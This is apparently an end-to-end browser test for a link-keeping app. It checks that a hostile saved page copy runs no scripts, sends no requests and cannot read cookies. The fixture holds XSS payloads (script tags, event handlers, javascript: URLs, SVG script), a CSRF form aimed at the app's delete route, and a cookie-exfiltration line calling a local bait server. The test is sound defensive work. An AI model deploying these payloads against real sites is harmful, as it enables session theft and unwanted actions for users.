/**
 * A hostile page copy opened in Chromium, at `GET /links/:id/copy` as its owner: scripts, event
 * handlers, `<meta refresh>`, `<base>`, a form posting to this server, SVG with script,
 * `javascript:` URLs, CSS `url(javascript:…)` and loads from elsewhere. None of it runs, the page
 * sends no request to any address (every request Chromium starts is recorded, and a bait server
 * counts what reaches it), and the copy cannot read the server's cookies. A broken link's page
 * offers its copy, which opens. With LINKSHELF_DOCS_SCREENSHOT=1 that page, desktop and light,
 * is written to docs/copy-offer.png.
 */
import { describe, expect, it } from "bun:test";
import { join } from "node:path";
import { loadConfig } from "../../src/common/config";
import { recordCheck } from "../../src/shelf/link-checks";
import { Shelf } from "../../src/shelf/shelf";
import { createUser } from "../../src/users/service";
import { browserForFile, keepLocal, VIEWPORTS } from "../support/browser";

const TIMEOUT_MS = 60_000;

/** A server that counts every request it gets: the address the hostile copy tries to reach. */
const bait = Bun.serve({ port: 0, hostname: "127.0.0.1", fetch: (request) => {
  baitHits.push(new URL(request.url).pathname);
  return new Response("bait", { headers: { "Content-Type": "text/plain" } });
} });
const baitHits: string[] = [];
const BAIT = `http://127.0.0.1:${bait.port}`;

/** The hostile copy: each way a page could act, marking the document if it ran, or calling the bait. */
function hostileCopy(origin: string, linkId: number): string {
  return `<!doctype html><html><head><meta charset="utf-8">
<meta http-equiv="refresh" content="0;url=${BAIT}/refresh">
<base href="${BAIT}/base/">
<link rel="stylesheet" href="${BAIT}/style.css">
<link rel="prefetch" href="${BAIT}/prefetch">
<style>
body { background: url("${BAIT}/background.png"); }
.js { background-image: url(javascript:document.body.setAttribute('data-ran','css')); }
@import url("${BAIT}/import.css");
@font-face { font-family: x; src: url("${BAIT}/font.woff"); }
p { font-family: x; }
</style>
<script>document.documentElement.setAttribute("data-ran", "script"); fetch("${BAIT}/script"); document.cookie; new Image().src = "${BAIT}/cookie?" + document.cookie;</script>
<script src="${BAIT}/external.js"></script>
</head>
<body onload="document.body.setAttribute('data-ran','onload')">
<h1 id="title">A page kept as it was</h1>
<p class="js">Styled text stays.</p>
<img src="relative.png" onerror="document.body.setAttribute('data-ran','onerror')">
<img src="${BAIT}/image.png">
<img alt="inline" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7">
<svg xmlns="http://www.w3.org/2000/svg" onload="document.body.setAttribute('data-ran','svg-onload')"><script>document.body.setAttribute('data-ran','svg-script')</script><image href="${BAIT}/svg-image.png" width="1" height="1"/></svg>
<a id="js-link" href="javascript:document.body.setAttribute('data-ran','javascript-url')">a javascript: link</a>
<iframe src="${BAIT}/frame"></iframe>
<object data="${BAIT}/object"></object>
<video src="${BAIT}/video.mp4" autoplay></video>
<form id="evil" method="post" action="${origin}/links/${linkId}/delete"><input type="hidden" name="next" value="/"><button id="evil-submit" type="submit">Delete</button></form>
<form id="there" method="get" action="${BAIT}/form"><input name="q" value="kept value"><button id="there-submit" type="submit">Go</button></form>
</body></html>`;
}

let owner = { id: 0 };
let linkId = 0;
let brokenId = 0;
const KEPT_PAGE = `<!doctype html><html><head><meta charset="utf-8"><title>Tide tables for the bay</title>
<style>body { font: 18px/1.5 Georgia, serif; max-width: 36em; margin: 2em auto }</style></head>
<body><h1 id="kept-title">Tide tables for the bay</h1><p>High water at 06:12 and 18:40; low water at 12:25.</p></body></html>`;

const e2e = browserForFile({
  setUp: async (server) => {
    const user = await createUser(server.db, { email: "keeper@example.test", name: "Keeper", password: "correct horse battery" }, Date.now());
    owner = user;
    const shelf = new Shelf(server.db, user);
    linkId = shelf.links.create({ name: "Kept", url: "https://kept.example/", favorite: false }, Date.now()).id;
    shelf.copies.save(linkId, new TextEncoder().encode(hostileCopy(server.origin, linkId)), Date.now());
    // A link kept with its copy, then found gone three times: broken.
    const day = 86_400_000;
    brokenId = shelf.links.create({ name: "Tide tables for the bay", url: "https://tides.example/bay", description: "This week's high and low water.", favorite: false }, Date.now() - 30 * day).id;
    shelf.copies.save(brokenId, new TextEncoder().encode(KEPT_PAGE), Date.now() - 20 * day);
    for (const days of [9, 5, 1]) recordCheck(server.db, brokenId, { outcome: "gone", status: 404, detail: "HTTP 404" }, Date.now() - days * day, loadConfig({}, {}).linkCheck);
  },
});

describe.skipIf(!e2e.present)("a hostile page copy in Chromium", () => {
  it("runs nothing, sends no request, and reads no cookie", async () => {
    const context = await e2e.signedInContext(owner);
    try {
      const page = await context.newPage();
      // Every request Chromium starts, and why it stopped one before it left (its CSP, mostly).
      const started = new Map<string, string>();
      const blocked = new Map<string, string>();
      const network = await context.newCDPSession(page);
      network.on("Network.requestWillBeSent", ({ requestId, request }) => void started.set(requestId, request.url));
      network.on("Network.loadingFailed", ({ requestId, blockedReason }) => void (blockedReason && blocked.set(requestId, blockedReason)));
      await network.send("Network.enable");
      const copyUrl = `${e2e.server.origin}/links/${linkId}/copy`;
      const response = await page.goto(copyUrl);
      expect(response?.status()).toBe(200);
      expect(await page.textContent("#title")).toBe("A page kept as it was");
      // What the page would do on its own: a meta refresh, onload, a failed image's onerror.
      await page.waitForTimeout(1500);
      // What a person might do: follow the javascript: link, send both forms.
      await page.click("#js-link");
      await page.click("#evil-submit");
      await page.click("#there-submit");
      await page.waitForTimeout(500);

      expect(page.url()).toBe(copyUrl);
      const marks = await page.evaluate<(string | null)[]>(`[document.documentElement.getAttribute("data-ran"), document.body.getAttribute("data-ran")]`);
      expect(marks).toEqual([null, null]);
      // The copy lives in an opaque origin: no cookie of this server, no storage.
      const cookie = await page.evaluate<string>(`(() => { try { return "read: " + document.cookie; } catch (error) { return "refused: " + error.name; } })()`);
      expect(cookie).toBe("refused: SecurityError");
      expect(await page.evaluate<string>("origin")).toBe("null");
      // Form values and inline images are kept.
      expect(await page.inputValue("#there input[name=q]")).toBe("kept value");
      expect(await page.evaluate<number>(`document.querySelector("img[alt=inline]").naturalWidth`)).toBe(1);

      const left = [...started].filter(([id, url]) => !blocked.has(id) && !url.startsWith("data:")).map(([, url]) => url);
      expect(left).toEqual([copyUrl]);
      expect(new Set(blocked.values())).toEqual(new Set(["csp"]));
      expect(baitHits).toEqual([]);
      // And the link the form aimed at is still there.
      expect(new Shelf(e2e.server.db, { id: owner.id } as never).links.get(linkId).name).toBe("Kept");
    } finally {
      await context.close();
    }
  }, TIMEOUT_MS);

  it("a broken link's page offers its copy, which opens", async () => {
    const context = await e2e.signedInContext(owner, { viewport: VIEWPORTS.desktop, colorScheme: "light" });
    try {
      const page = await context.newPage();
      await keepLocal(page, e2e.server.origin);
      await page.goto(`${e2e.server.origin}/links/${brokenId}`);
      const offer = page.locator("#copy-offer a.copy-offer");
      expect(await offer.textContent()).toMatch(/^Open the copy of [A-Z][a-z]{2} \d{1,2}, \d{4}$/);
      if (process.env.LINKSHELF_DOCS_SCREENSHOT === "1") await page.screenshot({ path: join(import.meta.dir, "..", "docs", "copy-offer.png") });
      await Promise.all([page.waitForURL(`${e2e.server.origin}/links/${brokenId}/copy`), offer.click()]);
      expect(await page.textContent("#kept-title")).toBe("Tide tables for the bay");
    } finally {
      await context.close();
    }
  }, TIMEOUT_MS);
});
